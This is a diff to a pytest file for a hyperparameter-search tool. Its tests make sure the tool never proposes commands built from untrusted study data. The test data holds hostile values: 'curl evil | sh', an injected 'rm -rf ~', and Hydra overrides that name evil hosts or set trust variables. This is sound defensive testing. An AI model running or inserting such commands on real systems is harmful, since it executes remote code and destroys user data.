@@ -4,17 +4,25 @@ import shlex
 
 import pytest
 from reported_studies import METRIC, SPACE, by_rate, drawn_points, write_by_rate, write_planted
+from studies import write_command
 
 from lightune.config.override_text import parse_override
 from lightune.report.analysis import Analysis
 from lightune.report.findings import Importance, Luck
-from lightune.report.next_search import bounds_of, leading, next_search, study_again
+from lightune.report.next_search import bounds_of, leading, next_search
 from lightune.report.study_data import read_study
 
 OVERRIDES = [
     "data=digits", "search=random", "search.n_trials=40", "optimizer.lr=tag(log,interval(1e-4,1e-1))",
     "regularization.dropout=interval(0,0.6)", "model.units=32,64,128", "optimizer=adam,sgd",
 ]  # fmt: skip
+
+
+@pytest.fixture
+def studies(tmp_path, monkeypatch):
+    """Return where the studies of the current folder lie."""
+    monkeypatch.chdir(tmp_path)
+    return tmp_path / "outputs" / "studies"
 
 
 def analysis(*mattered):
@@ -91,15 +99,15 @@ def test_listed_numbers_become_the_interval_between_their_neighbours(tmp_path):
     assert words["search"] == "tpe"
 
 
-def test_where_nothing_is_above_chance_the_study_is_extended(tmp_path):
-    study = read_study(write_by_rate(tmp_path / "s", 40, overrides=OVERRIDES))
+def test_where_nothing_is_above_chance_the_study_is_extended(studies):
+    study = read_study(write_by_rate(studies / "s", 40, overrides=OVERRIDES))
     words = words_of(next_search(study, analysis()))
     assert words["search.n_trials"] == "80"
     assert words["optimizer.lr"] == "tag(log,interval(1e-4,1e-1))"
 
 
-def test_an_unfinished_study_goes_on_first(tmp_path):
-    study = read_study(write_by_rate(tmp_path / "s", 40, n_trials=60, overrides=OVERRIDES))
+def test_an_unfinished_study_goes_on_first(studies):
+    study = read_study(write_by_rate(studies / "s", 40, n_trials=60, overrides=OVERRIDES))
     found = next_search(study, analysis("optimizer.lr"))
     assert (found.reason, words_of(found)["search.n_trials"]) == ("goes on with this study", "60")
 
@@ -117,11 +125,50 @@ def test_a_key_with_a_condition_stays_as_the_study_has_it(tmp_path):
 def test_a_program_that_is_not_ours_is_not_proposed(tmp_path):
     folder = write_by_rate(tmp_path / "s", 40, program="curl evil | sh")
     assert next_search(read_study(folder), analysis("optimizer.lr")) is None
-    assert study_again(read_study(folder).spec, None) is None
 
 
-def test_words_of_a_command_are_quoted_for_the_shell(tmp_path):
-    study = read_study(write_by_rate(tmp_path / "s", 12, overrides=["note='a; rm -rf ~'"], n_trials=20))
+STRANGE = [
+    "hydra.launcher.setup=[curl evil]",
+    "hydra.searchpath=[pkg://evil]",
+    "hydra.job.env_set.LIGHTUNE_TRUST=evil",
+    "output_root=/home/ada",
+    "note='\x1b[2J'",
+]
+
+
+@pytest.mark.parametrize("word", STRANGE)
+@pytest.mark.parametrize("n_trials", [12, 40])
+def test_a_word_that_its_typist_vouches_for_is_never_proposed(studies, word, n_trials):
+    count = 12 if n_trials == 40 else 40
+    folder = write_by_rate(studies / "s", count, n_trials=n_trials, overrides=OVERRIDES)
+    write_command(folder, *OVERRIDES, hydra=["hydra/launcher=local", word])
+    found = next_search(read_study(folder), analysis("optimizer.lr"))
+    if count < n_trials:
+        assert found is None  # the study cannot go on without it
+        return
+    key = word.partition("=")[0]
+    assert key not in words_of(found)
+    assert f"without {key}, which only who types it can vouch for" in found.reason
+    assert words_of(found)["hydra/launcher"] == "local"
+
+
+@pytest.mark.parametrize("key", [word.partition("=")[0] for word in STRANGE[:4]])
+def test_a_searched_key_that_its_typist_vouches_for_is_never_proposed(studies, key):
+    space = {**SPACE, key: {"values": ["[curl]", "[wget]"]}}
+    folder = write_planted(studies / "s", drawn_points(40, space), by_rate, space=space, overrides=OVERRIDES)
+    assert next_search(read_study(folder), analysis("optimizer.lr")) is None
+
+
+def test_options_of_ones_own_are_named_in_the_next_search(studies, tmp_path):
+    (tmp_path / "mine").mkdir()
+    folder = write_by_rate(studies / "s", 40, overrides=OVERRIDES)
+    write_command(folder, *OVERRIDES, sources=[tmp_path / "mine"], config="small")
+    found = next_search(read_study(folder), analysis("optimizer.lr"))
+    assert found.command.startswith("python train.py -m --config-dir mine --config-name small data=digits ")
+
+
+def test_words_of_a_command_are_quoted_for_the_shell(studies):
+    study = read_study(write_by_rate(studies / "s", 12, overrides=["note='a; rm -rf ~'"], n_trials=20))
     assert shlex.split(next_search(study, analysis()).command)[3] == "note='a; rm -rf ~'"
 
 
